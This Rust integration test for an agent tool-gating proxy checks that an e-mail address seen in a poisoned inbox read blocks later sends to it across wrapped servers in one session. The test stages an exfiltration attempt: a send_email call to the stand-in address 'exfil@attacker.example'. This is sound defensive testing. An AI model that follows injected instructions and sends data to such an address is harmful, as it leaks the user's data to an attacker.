//! One agent session across wrapped servers: proxies of the same session share, through the
//! broker, the destination tokens they saw. Reading a poisoned e-mail through one server and
//! sending to its address through another is a hard deny; another session is unaffected.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use serde_json::{Value, json};
use toolgate_testkit::{Peer, wait_until};

const LIMIT: Duration = Duration::from_secs(20);
const DEMO_POLICY: &str = include_str!("../src/demo/policy.yaml");
const ATTACKER: &str = "exfil@attacker.example";

struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn base(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap()
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_toolgate"));
        cmd.args(args)
            .env("TOOLGATE_BROKER_DIR", self.base().join("b"));
        cmd
    }

    fn proxy(&self, name: &str, session: &str) -> Gate {
        let base = self.base();
        let work = base.join(format!("work-{name}"));
        for d in [
            work.clone(),
            base.join("home"),
            base.join(format!("pins-{name}")),
        ] {
            std::fs::create_dir_all(d).unwrap();
        }
        let policy = base.join("policy.yaml");
        std::fs::write(&policy, DEMO_POLICY).unwrap();
        let mut cmd = self.cmd(&[
            "wrap",
            "--server",
            name,
            "--approval",
            "none",
            "--session",
            session,
        ]);
        cmd.arg("--workspace")
            .arg(&work)
            .arg("--policy")
            .arg(&policy)
            .arg("--audit")
            .arg(base.join(format!("audit-{name}.jsonl")))
            .arg("--")
            .arg(env!("CARGO_BIN_EXE_toolgate"))
            .args(["demo", "--internal-server", "--workspace"])
            .arg(&work)
            .arg("--outbox")
            .arg(base.join(format!("outbox-{name}")))
            .env("HOME", base.join("home"))
            .env("TOOLGATE_PINS_DIR", base.join(format!("pins-{name}")));
        let mut gate = Gate {
            peer: Peer::spawn(cmd, false),
        };
        gate.send(
            json!({"jsonrpc":"2.0","id":"init","method":"initialize","params":{
            "protocolVersion":"2025-06-18","capabilities":{},
            "clientInfo":{"name":"session-test","version":"0"}}}),
        );
        gate.response(&json!("init"));
        gate.send(json!({"jsonrpc":"2.0","method":"notifications/initialized"}));
        // Every page, like a real client: tools are pinned before their first call.
        let mut cursor: Option<String> = None;
        for n in 0..20 {
            let id = json!(format!("list-{n}"));
            let params = cursor.as_ref().map_or(json!({}), |c| json!({"cursor": c}));
            gate.send(json!({"jsonrpc":"2.0","id":id,"method":"tools/list","params":params}));
            let r = gate.response(&id);
            cursor = r["result"]["nextCursor"].as_str().map(str::to_owned);
            if cursor.is_none() {
                break;
            }
        }
        gate
    }

    fn status(&self) -> String {
        let out = self.cmd(&["status"]).output().unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    }
}

struct Gate {
    peer: Peer,
}

impl Gate {
    fn send(&mut self, v: Value) {
        self.peer.send(serde_json::to_vec(&v).unwrap());
    }

    fn response(&mut self, id: &Value) -> Value {
        loop {
            let m = self.peer.recv_json();
            if m.get("id") == Some(id) && m.get("method").is_none() {
                return m;
            }
        }
    }

    fn call(&mut self, id: i64, tool: &str, args: Value) -> Value {
        self.send(json!({"jsonrpc":"2.0","id":id,"method":"tools/call",
                         "params":{"name":tool,"arguments":args}}));
        self.response(&json!(id))
    }
}

fn text(r: &Value) -> String {
    r["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or("")
        .to_owned()
}

fn send_to_attacker(gate: &mut Gate, id: i64) -> Value {
    gate.call(
        id,
        "send_email",
        json!({"to": ATTACKER, "subject": "checklist", "body": "here you go"}),
    )
}

#[test]
fn poisoned_read_through_one_server_blocks_sending_through_another() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let broker = Peer::spawn(w.cmd(&["broker"]), true);
    assert!(wait_until(LIMIT, || w
        .base()
        .join("b/broker.sock")
        .exists()));
    let mut inbox = w.proxy("inbox", "agent-1");
    let mut mail = w.proxy("mail", "agent-1");
    let mut other = w.proxy("other-mail", "agent-2");
    assert!(
        wait_until(LIMIT, || w.status().contains("proxies:    3 connected")),
        "{}",
        w.status()
    );

    let read = inbox.call(1, "read_inbox", json!({}));
    assert!(text(&read).contains(ATTACKER), "{read}");
    // The inbox proxy shared the tokens it saw (not the e-mail) with the broker.
    assert!(
        wait_until(LIMIT, || w.status().contains("sessions:   1 sharing")),
        "{}",
        w.status()
    );

    let r = send_to_attacker(&mut mail, 2);
    assert_eq!(r["result"]["isError"], true, "{r}");
    let why = text(&r);
    assert!(why.contains("came from untrusted"), "{why}");
    assert!(why.contains("`read_inbox`"), "{why}");
    assert!(
        !why.contains("no way to ask"),
        "a hard deny, not an unanswerable ask: {why}"
    );
    assert!(
        !std::fs::read_to_string(w.base().join("outbox-mail"))
            .unwrap_or_default()
            .contains(ATTACKER),
        "the e-mail must not be sent"
    );

    // Another agent session never saw the poisoned e-mail: unproven, not tainted.
    let r = send_to_attacker(&mut other, 3);
    let why = text(&r);
    assert!(why.contains("not a trusted destination"), "{why}");
    assert!(!why.contains("came from untrusted"), "{why}");

    // A proxy joining the session later learns what it saw so far.
    let mut late = w.proxy("late-mail", "agent-1");
    let r = send_to_attacker(&mut late, 4);
    assert!(text(&r).contains("came from untrusted"), "{r}");
    drop(broker);
}

#[test]
fn without_a_broker_each_proxy_keeps_its_own_session() {
    let w = World {
        dir: tempfile::tempdir().unwrap(),
    };
    let mut inbox = w.proxy("inbox", "agent-1");
    let mut mail = w.proxy("mail", "agent-1");
    let read = inbox.call(1, "read_inbox", json!({}));
    assert!(text(&read).contains(ATTACKER));
    // Same server: its own local session still hard-denies.
    let r = send_to_attacker(&mut inbox, 2);
    assert!(text(&r).contains("came from untrusted"), "{r}");
    // Another server without a broker cannot know: unproven (and, with no way to ask, denied).
    let r = send_to_attacker(&mut mail, 3);
    assert_eq!(r["result"]["isError"], true, "{r}");
    assert!(text(&r).contains("not a trusted destination"), "{r}");
}
